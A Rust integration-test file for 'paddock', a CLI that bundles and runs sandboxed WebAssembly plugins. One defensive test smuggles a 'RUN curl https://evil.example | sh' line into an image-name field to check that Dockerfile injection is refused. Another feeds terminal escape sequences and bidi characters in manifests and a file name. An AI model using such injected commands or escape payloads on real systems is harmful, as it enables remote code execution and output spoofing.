//! The `paddock` binary end to end: bundle, inspect, validate, run.

use std::process::{Command, Stdio};
use std::time::Duration;

use crate::support::{self, SAMPLES, guest_target_dir, misbehaving_bundle, paddock, sample_bundle, workspace_root};

fn stdout(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A directory holding every sample bundle.
fn samples_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for sample in SAMPLES {
        std::fs::copy(sample_bundle(sample), dir.path().join(format!("{sample}.zip"))).unwrap();
    }
    dir
}

#[test]
fn bundle_builds_a_rust_plugin_crate_into_a_loadable_zip() {
    let out = tempfile::tempdir().unwrap();
    let zip = out.path().join("hello.zip");
    let target_dir = guest_target_dir();
    let output = paddock(&[
        "bundle",
        "sample-plugins/hello-world",
        "-o",
        zip.to_str().unwrap(),
        "--target-dir",
        target_dir.to_str().unwrap(),
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(stdout(&output).starts_with("bundled hello-world 1.0.0 -> "), "{}", stdout(&output));

    let inspect = paddock(&["inspect", zip.to_str().unwrap(), "--format", "json"]);
    assert!(inspect.status.success(), "{}", stderr(&inspect));
    let json: serde_json::Value = serde_json::from_slice(&inspect.stdout).unwrap();
    assert_eq!(json["manifest"]["name"], "hello-world");
    assert_eq!(json["manifest"]["priority"], -1);
    assert_eq!(json["component_sha256"].as_str().unwrap().len(), 64);
    let exports = json["exports"].as_array().unwrap();
    let hooks = exports.iter().find(|e| e["name"] == "paddock:plugin/hooks@0.1.0").expect("hooks exported");
    let functions: Vec<&str> = hooks["functions"].as_array().unwrap().iter().map(|f| f.as_str().unwrap()).collect();
    assert_eq!(functions, ["deploy", "destroy", "dockerfile-injection", "bootstrap-injection", "job-runtime-env-vars"]);

    let imports: Vec<&str> = json["imports"].as_array().unwrap().iter().map(|i| i.as_str().unwrap()).collect();
    assert!(imports.contains(&"paddock:plugin/logging@0.1.0"), "{imports:?}");
    assert!(imports.iter().all(|i| i.starts_with("wasi:") || i.starts_with("paddock:")), "{imports:?}");

    let text = stdout(&paddock(&["inspect", zip.to_str().unwrap()]));
    assert!(text.contains("name:        hello-world\nversion:     1.0.0\npriority:    -1\n"), "{text}");
    assert!(text.contains("imports:\n  "), "{text}");
}

#[test]
fn bundle_refuses_a_directory_without_a_manifest_or_crate() {
    let empty = tempfile::tempdir().unwrap();
    let output = paddock(&["bundle", empty.path().to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("plugin-manifest.yaml"), "{}", stderr(&output));

    std::fs::write(empty.path().join("plugin-manifest.yaml"), "name: x\nversion: 1.0.0\n").unwrap();
    let output = paddock(&["bundle", empty.path().to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("no Cargo.toml"), "{}", stderr(&output));
}

#[test]
fn validate_reports_each_bundle_and_fails_on_a_bad_one() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.zip");
    std::fs::write(&bad, b"not a zip").unwrap();
    let good = sample_bundle("runtime-env");
    let output = paddock(&["validate", good.to_str().unwrap(), bad.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(1));
    let text = stdout(&output);
    assert!(text.contains("ok      ") && text.contains("(runtime-env 0.3.0)"), "{text}");
    assert!(text.contains("invalid ") && text.contains("not a readable zip archive"), "{text}");
}

#[test]
fn run_prints_json_outcomes_in_execution_order() {
    let dir = samples_dir();
    let context = workspace_root().join("sample-plugins/context.yaml");
    let output = paddock(&[
        "run",
        "job-runtime-env-vars",
        "--plugins",
        dir.path().to_str().unwrap(),
        "--context",
        context.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let outcomes = json.as_array().unwrap();
    let summary: Vec<(&str, &str, i64)> = outcomes
        .iter()
        .map(|o| (o["plugin"].as_str().unwrap(), o["status"].as_str().unwrap(), o["priority"].as_i64().unwrap()))
        .collect();
    assert_eq!(
        summary,
        [
            ("hello-world", "ok", -1),
            ("docker-layers", "skipped", 0),
            ("runtime-env", "ok", 0),
            ("deploy-recorder", "skipped", 10)
        ]
    );
    assert_eq!(outcomes[0]["version"], "1.0.0");
    assert_eq!(outcomes[2]["value"][0], serde_json::json!(["RACETRACK_JOB_NAME", "sentiment-model"]));
    assert!(outcomes[1].get("value").is_none() && outcomes[1].get("error").is_none());
}

/// Puts the sample bundles where sample-plugins/plugins.yaml expects them:
/// target/bundles, as the demo script builds them.
fn sample_set_bundles() {
    let bundles = workspace_root().join("target/bundles");
    std::fs::create_dir_all(&bundles).unwrap();
    for sample in SAMPLES.iter().chain(&["team-labels"]) {
        std::fs::copy(sample_bundle(sample), bundles.join(format!("{sample}.zip"))).unwrap();
    }
}

#[test]
fn run_all_on_the_sample_set_shows_every_contribution() {
    sample_set_bundles();
    let output =
        paddock(&["run", "all", "--set", "sample-plugins/plugins.yaml", "--context", "sample-plugins/context.yaml"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    for expected in [
        "    -1  hello (hello-world 1.0.0)\n     0  runtime-env (runtime-env 0.3.0)\n     0  docker-layers (docker-layers 2.1.0)\n     5  team-labels (team-labels 0.2.0)\n    10  deploy-recorder",
        // The 0.2 plugin beside the 0.1.0 ones.
        "    | LABEL org.opencontainers.image.vendor='data-science-platform'\n",
        "    | TEAM_OWNER=data-science-platform\n",
        "  team-labels 0.2.0: skipped\n  deploy-recorder 0.2.0: ok",
        "    | FROM jupyter/minimal-notebook:2026-11\n    | # Commands for hello plugin\n",
        "    | --- hello.sh ---",
        "  conflict: LOG_LEVEL set by hello=debug, runtime-env=warning; kept runtime-env's value",
        "      asked to deploy sentiment-model@1.4.2 for team data-science in dev-env",
        "== destroy ==",
    ] {
        assert!(text.contains(expected), "missing `{expected}` in:\n{text}");
    }
}

#[test]
fn bundle_ships_files_that_a_granted_plugin_reads_at_run_time() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("files/templates")).unwrap();
    std::fs::write(dir.path().join("files/templates/banner.txt"), "shipped with the plugin").unwrap();
    let component = support::component_path("misbehaving");
    let zip = dir.path().join("shipper.zip");
    let bundle = || {
        paddock(&[
            "bundle",
            dir.path().to_str().unwrap(),
            "--wasm",
            component.to_str().unwrap(),
            "-o",
            zip.to_str().unwrap(),
        ])
    };

    std::fs::write(dir.path().join("plugin-manifest.yaml"), "name: shipper\nversion: 1.0.0\n").unwrap();
    let output = bundle();
    // Shipped for the host to read (templates, charts); the plugin itself
    // cannot see them without the capability.
    assert!(output.status.success(), "{}", stderr(&output));
    let set_file = dir.path().join("set.yaml");
    std::fs::write(
        &set_file,
        format!(
            "plugins:\n  - bundle: {}\n    parameters: {{mode: bundle-files, path: templates/banner.txt}}\n",
            zip.display()
        ),
    )
    .unwrap();
    let run = |extra: &[&str]| {
        let mut args = vec!["run", "deploy", "--set", set_file.to_str().unwrap(), "--format", "json"];
        args.extend(extra);
        paddock(&args)
    };
    let unseen = run(&["--grant-bundle-files"]);
    assert!(unseen.status.success(), "{}", stderr(&unseen));
    let json: serde_json::Value = serde_json::from_slice(&unseen.stdout).unwrap();
    let summary = json[0]["value"]["summary"].as_str().unwrap();
    assert!(summary.starts_with("denied: "), "the plugin cannot read what it did not ask for: {summary}");

    let manifest = "name: shipper\nversion: 1.0.0\ncapabilities:\n  bundle-files: true\n";
    std::fs::write(dir.path().join("plugin-manifest.yaml"), manifest).unwrap();
    let output = bundle();
    assert!(output.status.success(), "{}", stderr(&output));

    // Inspecting grants nothing, so it needs no grant.
    let inspect = paddock(&["inspect", zip.to_str().unwrap()]);
    assert!(inspect.status.success(), "{}", stderr(&inspect));
    assert!(stdout(&inspect).contains("asks for bundle-files: 1 files shipped\n"), "{}", stdout(&inspect));
    let inspect = paddock(&["inspect", zip.to_str().unwrap(), "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&inspect.stdout).unwrap();
    assert_eq!(json["shipped_files"], serde_json::json!(["templates/banner.txt"]));
    assert_eq!(json["manifest"]["capabilities"]["bundle-files"], true);

    let refused = run(&[]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(stderr(&refused).contains("--grant-bundle-files"), "{}", stderr(&refused));

    let granted = run(&["--grant-bundle-files"]);
    assert!(granted.status.success(), "{}", stderr(&granted));
    let json: serde_json::Value = serde_json::from_slice(&granted.stdout).unwrap();
    assert_eq!(json[0]["value"]["summary"], "shipped with the plugin");
}

#[test]
fn run_exits_non_zero_when_a_plugin_fails_and_names_it() {
    let looper = misbehaving_bundle("cli-looper", 0);
    let set = tempfile::tempdir().unwrap();
    let set_file = set.path().join("set.yaml");
    std::fs::write(&set_file, format!("plugins:\n  - bundle: {}\n    parameters: {{mode: loop}}\n", looper.display()))
        .unwrap();
    let recorder = sample_bundle("deploy-recorder");
    let run_deploy = |extra: &[&str]| {
        let mut args = vec!["run", "deploy", "--set", set_file.to_str().unwrap()];
        args.extend(["--plugins", recorder.to_str().unwrap(), "--timeout-ms", "200", "--format", "json"]);
        args.extend(extra);
        let output = paddock(&args);
        let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        (output, json)
    };
    let (output, json) = run_deploy(&[]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_eq!(json[0]["status"], "failed");
    assert_eq!(
        json[0]["error"],
        "plugin `cli-looper` 0.0.1, hook `deploy`: timed out after 200 ms (the hook time limit; raise it with `Limits::hook_timeout` or `--timeout-ms`)"
    );
    assert_eq!(json[1]["status"], "ok");

    let (_, json) = run_deploy(&["--fail-fast"]);
    assert_eq!(json[1]["status"], "not-run");
}

#[test]
fn usage_errors_are_one_readable_paragraph_with_exit_2() {
    let dir = samples_dir();
    let plugins = dir.path().to_str().unwrap();
    for (args, expected) in [
        (vec!["run", "deploi", "--plugins", plugins], "unknown hook `deploi`; the hooks are: dockerfile-injection, "),
        (vec!["run", "deploy"], "no plugins given"),
        (vec!["run", "deploy", "--plugins", "/nonexistent"], "cannot read bundles at /nonexistent: "),
        (vec!["inspect", "/nonexistent.zip"], "cannot read bundle"),
    ] {
        let output = paddock(&args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        let err = stderr(&output);
        assert!(err.starts_with("error: ") && err.contains(expected), "{args:?}: {err}");
        assert!(!err.contains("panicked"), "{err}");
    }
    let bad_context = dir.path().join("context.yaml");
    std::fs::write(&bad_context, "team: a\nteem: b\n").unwrap();
    let output = paddock(&["run", "deploy", "--plugins", plugins, "--context", bad_context.to_str().unwrap()]);
    assert!(stderr(&output).contains("unknown field `teem`"), "{}", stderr(&output));
}

#[test]
fn every_command_has_help() {
    for command in
        [&["--help"][..], &["bundle", "--help"], &["inspect", "--help"], &["validate", "--help"], &["run", "--help"]]
    {
        let output = paddock(command);
        assert!(output.status.success(), "{command:?}");
        assert!(stdout(&output).contains("Usage: paddock"), "{command:?}");
    }
}

#[test]
fn operator_files_that_are_not_regular_files_are_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("set.fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let zero = dir.path().join("zero.yaml");
    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    let bundle = sample_bundle("runtime-env");
    for (file, kind) in [(&fifo, "a FIFO"), (&zero, "a device")] {
        let file = file.to_str().unwrap();
        for args in [
            vec!["run", "deploy", "--set", file],
            vec!["run", "deploy", "--plugins", bundle.to_str().unwrap(), "--context", file],
        ] {
            // Short: the old code read /dev/zero into memory until killed.
            let output = support::output_within(support::paddock_command(&args), Duration::from_secs(10));
            assert_eq!(output.status.code(), Some(2), "{args:?}: {}", stderr(&output));
            let err = stderr(&output);
            assert!(err.contains(file) && err.contains(&format!("is {kind}, not a regular file")), "{args:?}: {err}");
        }
    }
}

#[test]
fn a_base_image_that_is_not_an_image_reference_is_refused_before_anything_runs() {
    let dir = samples_dir();
    let plugins = dir.path().to_str().unwrap();
    let context = dir.path().join("context.yaml");
    std::fs::write(&context, "team: data\nimage_name: \"jupyter:1\\nRUN curl https://evil.example | sh\"\n").unwrap();
    let context = context.to_str().unwrap();
    let output = paddock(&["run", "dockerfile-injection", "--plugins", plugins, "--context", context]);
    assert_eq!(output.status.code(), Some(2));
    let err = stderr(&output);
    assert!(err.contains("field `image_name`: `jupyter:1\\nRUN curl"), "{err}");
    assert!(err.contains("is not an image reference"), "{err}");
    assert!(err.contains("[REGISTRY[:PORT]/]NAME[:TAG][@DIGEST]"), "{err}");
    assert!(output.stdout.is_empty(), "{}", stdout(&output));

    let output = paddock(&["run", "dockerfile-injection", "--plugins", plugins, "--base-image", "python:3.11 AS x"]);
    assert_eq!(output.status.code(), Some(2));
    let err = stderr(&output);
    assert!(err.contains("--base-image `python:3.11 AS x` is not an image reference"), "{err}");
}

#[test]
fn hostile_manifest_text_never_reaches_the_terminal_raw() {
    let dir = tempfile::tempdir().unwrap();
    let component = support::component_bytes("misbehaving");
    let manifests: [&[u8]; 4] = [
        b"name: crafted\nversion: \"1.0.0\\e]0;pwned\\a\"\n",
        b"name: crafted\nversion: 1.0.0\n\"\\e]0;pwned\\a\\e[2J\": 1\n",
        b"name: crafted\nversion: 1.0.0\ndescription: \"harmless \\u202Eexe.txt\\u200B\"\n",
        b"name: crafted\nversion: 1.0.0\nurl: \"https://example.com/\\u2066x\"\n",
    ];
    // A file name can carry escapes too.
    let hostile_name = dir.path().join("evil\x1b]0;pwned\x07.zip");
    std::fs::write(&hostile_name, b"not a zip").unwrap();
    for (index, manifest) in manifests.iter().enumerate() {
        let zip = dir.path().join(format!("crafted-{index}.zip"));
        let bytes = support::zip_of(&[("plugin-manifest.yaml", manifest), ("plugin.wasm", &component)]);
        std::fs::write(&zip, bytes).unwrap();
        let zip = zip.to_str().unwrap();
        for (args, code) in
            [(vec!["validate", zip], 1), (vec!["inspect", zip], 2), (vec!["run", "deploy", "--plugins", zip], 2)]
        {
            let output = paddock(&args);
            assert_eq!(output.status.code(), Some(code), "{args:?}: {}", stderr(&output));
            for (stream, text) in [("stdout", stdout(&output)), ("stderr", stderr(&output))] {
                let raw = text.chars().find(|&c| matches!(c, '\x1b' | '\x07' | '\u{202e}' | '\u{200b}' | '\u{2066}'));
                assert_eq!(raw, None, "{args:?} {stream}: {text:?}");
            }
        }
    }
    let output = paddock(&["validate", dir.path().to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(1));
    let text = stdout(&output);
    assert!(text.contains("invalid ") && text.contains("evil\\u{1b}]0;pwned\\u{7}.zip"), "{text:?}");
    assert!(!text.contains(['\x1b', '\x07']), "{text:?}");
}

#[test]
fn stdout_that_cannot_be_written_is_an_error_and_a_closed_pipe_is_quiet() {
    let bundle = sample_bundle("hello-world");
    let context = workspace_root().join("sample-plugins/context.yaml");
    let args = ["run", "all", "--plugins", bundle.to_str().unwrap(), "--context", context.to_str().unwrap()];

    let mut full = support::paddock_command(&args);
    full.stdout(std::fs::File::create("/dev/full").unwrap());
    let output = full.stderr(Stdio::piped()).output().unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    let err = stderr(&output);
    assert!(err.contains("error: cannot write the output to stdout: No space left on device"), "{err}");
    assert!(!err.contains("panicked"), "{err}");

    let mut closed = support::paddock_command(&args);
    let mut child = closed.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    let err = stderr(&output);
    assert!(!err.contains("panicked") && !err.contains("error"), "{err}");
    assert_eq!(output.status.code(), Some(0), "the run's own status: {err}");
}

#[test]
fn zero_plugins_is_an_error_naming_what_was_looked_at() {
    let empty = tempfile::tempdir().unwrap();
    let no_zips = tempfile::tempdir().unwrap();
    std::fs::write(no_zips.path().join("notes.txt"), "not a bundle").unwrap();
    let set_file = empty.path().join("set.yaml");
    std::fs::write(&set_file, "plugins: []\n").unwrap();
    let (empty_dir, no_zips_dir, set) =
        (empty.path().to_str().unwrap(), no_zips.path().to_str().unwrap(), set_file.to_str().unwrap());
    for (args, looked_at) in [
        (vec!["run", "deploy", "--plugins", empty_dir], format!("found in {empty_dir};")),
        (vec!["run", "deploy", "--plugins", no_zips_dir], format!("found in {no_zips_dir};")),
        (vec!["run", "deploy", "--set", set], format!("found in plugin-set file {set};")),
        (vec!["run", "deploy", "--set", set, "--plugins", no_zips_dir], format!("file {set}, {no_zips_dir};")),
        (vec!["validate", no_zips_dir], format!("found in {no_zips_dir};")),
        (vec!["precompile", empty_dir], format!("found in {empty_dir};")),
    ] {
        let output = paddock(&args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        let err = stderr(&output);
        assert!(err.starts_with("error: no plugin bundles found") && err.contains(&looked_at), "{args:?}: {err}");
    }
}

#[test]
fn run_without_a_context_says_so_and_a_dockerfile_needs_a_base_image() {
    let dir = samples_dir();
    let plugins = dir.path().to_str().unwrap();
    let output = paddock(&["run", "all", "--plugins", plugins]);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("needs a base image: pass --base-image IMAGE"), "{}", stderr(&output));
    assert!(output.stdout.is_empty(), "no `FROM scratch` rendered: {}", stdout(&output));

    let output = paddock(&["run", "job-runtime-env-vars", "--plugins", plugins]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(stderr(&output).contains("no --context given: the hooks see an empty deployment"), "{}", stderr(&output));

    let output = paddock(&["run", "dockerfile-injection", "--plugins", plugins, "--base-image", "scratch"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(stdout(&output).contains("    | FROM scratch\n"), "{}", stdout(&output));
}

#[test]
fn run_all_json_is_in_execution_order_with_the_merged_views() {
    sample_set_bundles();
    let output = paddock(&[
        "run",
        "all",
        "--set",
        "sample-plugins/plugins.yaml",
        "--context",
        "sample-plugins/context.yaml",
        "--format",
        "json",
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let hooks: Vec<&str> = json.as_array().unwrap().iter().map(|run| run["hook"].as_str().unwrap()).collect();
    // Every hook whose input the context holds, in `Hook::ALL` order (the
    // Racetrack job hooks and DevStack's `stack` need sections this context
    // does not have).
    assert_eq!(
        hooks,
        [
            "dockerfile-injection",
            "bootstrap-injection",
            "job-runtime-env-vars",
            "pre-hook",
            "deploy",
            "destroy",
            "post-hook",
            "markdown-docs",
            "job-types",
            "infrastructure-targets",
            "settings",
            "system-packages",
            "unstack",
            "clean",
            "tutor-config",
            "tutor-patches",
            "tutor-pre-init",
            "tutor-init",
            "tutor-build-image",
            "tutor-remote-image",
            "tutor-commands",
        ]
    );
    let ids: Vec<&str> = json[0]["outcomes"].as_array().unwrap().iter().map(|o| o["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["hello", "runtime-env", "docker-layers", "team-labels", "deploy-recorder"]);
    let dockerfile = json[0]["dockerfile"].as_str().unwrap();
    let expected = "FROM jupyter/minimal-notebook:2026-11\n# Commands for hello plugin\n";
    assert!(dockerfile.starts_with(expected), "{dockerfile}");
    assert_eq!(json[1]["scripts"][0]["file_name"], "hello.sh");
    assert!(json[2]["env"]["vars"].as_array().unwrap().contains(&serde_json::json!(["LOG_LEVEL", "warning"])));
    assert_eq!(json[2]["env"]["conflicts"][0]["name"], "LOG_LEVEL");
    assert_eq!(json[2]["env"]["conflicts"][0]["winner"], "runtime-env");
    assert!(json[3].get("dockerfile").is_none() && json[3]["outcomes"].is_array());
}

#[test]
fn validate_accepts_directories_like_run() {
    let dir = tempfile::tempdir().unwrap();
    for sample in ["runtime-env", "hello-world"] {
        std::fs::copy(sample_bundle(sample), dir.path().join(format!("{sample}.zip"))).unwrap();
    }
    std::fs::write(dir.path().join("notes.txt"), "not a bundle").unwrap();
    let output = paddock(&["validate", dir.path().to_str().unwrap()]);
    assert!(output.status.success(), "{}{}", stdout(&output), stderr(&output));
    let lines: Vec<String> = stdout(&output).lines().map(str::to_string).collect();
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert!(lines[0].starts_with("ok      ") && lines[0].ends_with("hello-world.zip (hello-world 1.0.0)"), "{lines:?}");
    assert!(lines[1].starts_with("ok      ") && lines[1].ends_with("runtime-env.zip (runtime-env 0.3.0)"), "{lines:?}");
}

#[test]
fn limits_outside_their_range_are_refused_with_the_range() {
    let bundle = sample_bundle("hello-world");
    let bundle = bundle.to_str().unwrap();
    for (flag, value, range) in [
        ("--memory-mib", "0", "2..=4096"),
        ("--memory-mib", "1", "2..=4096"),
        ("--memory-mib", "4097", "2..=4096"),
        ("--timeout-ms", "0", "1..=3600000"),
        ("--timeout-ms", "3600001", "1..=3600000"),
    ] {
        let output = paddock(&["run", "job-runtime-env-vars", "--plugins", bundle, flag, value]);
        assert_eq!(output.status.code(), Some(2), "{flag} {value}");
        let err = stderr(&output);
        assert!(err.contains(&format!("'{value}' for '{flag}")) && err.contains(range), "{flag} {value}: {err}");
    }
    let bounds = [("--memory-mib", "2"), ("--memory-mib", "4096"), ("--timeout-ms", "1"), ("--timeout-ms", "3600000")];
    for (flag, value) in bounds {
        let output = paddock(&["run", "job-runtime-env-vars", "--plugins", bundle, flag, value, "--format", "json"]);
        // 1 ms may pass before the instance even starts: failing is fine, refusing the value is not.
        assert!(output.status.code() != Some(2), "{flag} {value}: {}", stderr(&output));
        assert!(!stderr(&output).contains("cache"), "{flag} {value}: {}", stderr(&output));
    }
}

#[test]
fn errors_name_the_set_file_entry_and_the_path_they_are_about() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(sample_bundle("runtime-env"), dir.path().join("runtime-env.zip")).unwrap();
    let set_file = dir.path().join("set.yaml");
    let set = "plugins:\n  - bundle: runtime-env.zip\n  - bundle: runtime-env.zip\n    id: Bad_Id\n";
    std::fs::write(&set_file, set).unwrap();
    let output = paddock(&["run", "deploy", "--set", set_file.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(2));
    let err = stderr(&output);
    let expected = format!("plugin id `Bad_Id` (entry 2 of plugin-set file {}) must start with", set_file.display());
    assert!(err.contains(&expected), "{err}");
    assert!(!err.contains("field `name`") && !err.contains("plugin-manifest.yaml"), "{err}");

    let output = paddock(&["run", "deploy", "--plugins", "/nonexistent"]);
    assert!(stderr(&output).contains("cannot read bundles at /nonexistent") && !stderr(&output).contains("plugin set"));
}

#[test]
fn log_lines_carry_no_colour_when_stderr_is_not_a_terminal() {
    let looper = misbehaving_bundle("cli-colourless", 0);
    let dir = tempfile::tempdir().unwrap();
    let set_file = dir.path().join("set.yaml");
    let set = format!("plugins:\n  - bundle: {}\n    parameters: {{mode: loop}}\n", looper.display());
    std::fs::write(&set_file, set).unwrap();
    let mut command =
        support::paddock_command(&["run", "deploy", "--set", set_file.to_str().unwrap(), "--timeout-ms", "100"]);
    command.env("PADDOCK_LOG", "debug").env_remove("NO_COLOR");
    let output = command.output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let err = stderr(&output);
    assert!(err.contains(" WARN ") && err.contains(" DEBUG ") && err.contains("timed out after 100 ms"), "{err}");
    assert!(!err.contains('\x1b'), "{err:?}");
}

/// With no home directory and no cache variables there is no cache
/// directory. Only root can run paddock as a user without a passwd entry;
/// elsewhere the unit tests of the binary cover the decision.
#[test]
fn a_cache_without_a_directory_says_why_it_is_off() {
    use std::os::unix::process::CommandExt as _;
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: needs root to run as a user without a home directory");
        return;
    }
    // Bundles are written private to their owner; this user must read one.
    let shared = tempfile::tempdir().unwrap();
    let bundle = shared.path().join("hello-world.zip");
    std::fs::copy(sample_bundle("hello-world"), &bundle).unwrap();
    for (path, mode) in [(shared.path(), 0o755), (bundle.as_path(), 0o644)] {
        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(mode)).unwrap();
    }
    let homeless = |args: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_paddock"));
        command.args(args).current_dir(workspace_root()).env_clear().env("PATH", "/usr/bin:/bin").uid(54_321);
        command.output().unwrap()
    };
    let output = homeless(&["cache"]);
    assert_eq!(output.status.code(), Some(2));
    let err = stderr(&output);
    assert!(err.contains("caching is off: no cache directory could be determined"), "{err}");
    assert!(err.contains("set PADDOCK_CACHE_DIR or pass --cache-dir") && !err.contains("--no-cache"), "{err}");

    let output = homeless(&["validate", bundle.to_str().unwrap()]);
    assert!(output.status.success(), "{}", stderr(&output));
    let err = stderr(&output);
    assert_eq!(err.matches("the compile cache is off: no cache directory").count(), 1, "{err}");
}
